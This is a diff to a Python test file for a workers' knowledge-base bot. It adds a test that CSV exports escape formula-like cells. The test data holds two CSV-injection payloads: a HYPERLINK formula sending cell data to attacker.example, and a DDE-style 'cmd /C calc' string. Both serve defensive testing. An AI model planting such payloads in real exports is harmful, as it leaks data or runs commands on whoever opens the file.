@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import asyncio
 import codecs
+import csv
+import io
 import subprocess
 import sys
 from pathlib import Path
 
-from tests.conftest import OFFICIALS, WORKER, Harness
 from knowledge_base import Entry, read_csv
+from tests.conftest import OFFICIALS, WORKER, Harness
 
 ROOT = Path(__file__).resolve().parent.parent
 
@@ -38,7 +41,7 @@ def bot_cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
     config = tmp_path / "config.toml"
     config.write_text(CONFIG, encoding="utf-8")
     return subprocess.run([sys.executable, "-m", "bot", *args, "--config", str(config)],
-                          capture_output=True, text=True, cwd=ROOT, timeout=60)
+                          check=False, capture_output=True, text=True, cwd=ROOT, timeout=60)
 
 
 def test_import_then_export_round_trip_with_bom(tmp_path: Path) -> None:
@@ -146,3 +149,27 @@ async def test_unrelated_question_gets_no_suggestion(bot: Harness) -> None:
     await bot.emu.wait_for_edit(WORKER, menu["message_id"], lambda m: "Mời bạn gõ" in m["text"])
     reply = await bot.say(WORKER, "Công ty nợ lương ba tháng thì tôi khiếu nại ở đâu?")
     assert "ẩn danh" in reply["text"]
+
+
+async def test_export_never_writes_a_formula_cell(bot: Harness, tmp_path: Path) -> None:
+    # Wordings workers typed reach the KB; one that starts like a formula would run in
+    # Excel when an official opens the export (OWASP "CSV injection").
+    link = '=HYPERLINK("http://attacker.example/?q="&A1,"Xem chi tiết")'
+    published = Entry("kb-1", "housing", link, "- Bước 1: nộp hồ sơ.\n- Bước 2: chờ duyệt.",
+                      variants=("@SUM(1+1)*cmd /C calc!A0", "+84 có được thuê không?"))
+    await bot.services.knowledge.publish([published])
+    config = tmp_path / "config.toml"
+    config.write_text(CONFIG.replace('"kb.sqlite3"', f'"{bot.config.storage.path}"'),
+                      encoding="utf-8")
+    out = tmp_path / "out.csv"
+    result = await asyncio.to_thread(
+        subprocess.run, [sys.executable, "-m", "bot", "kb", "export", str(out), "--config", str(config)],
+        check=False, capture_output=True, text=True, cwd=ROOT, timeout=60)
+    assert result.returncode == 0, result.stderr
+    text = out.read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert link in "".join(cells)
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # Importing the export gives back exactly what was published.
+    [entry] = read_csv(out)
+    assert entry == published
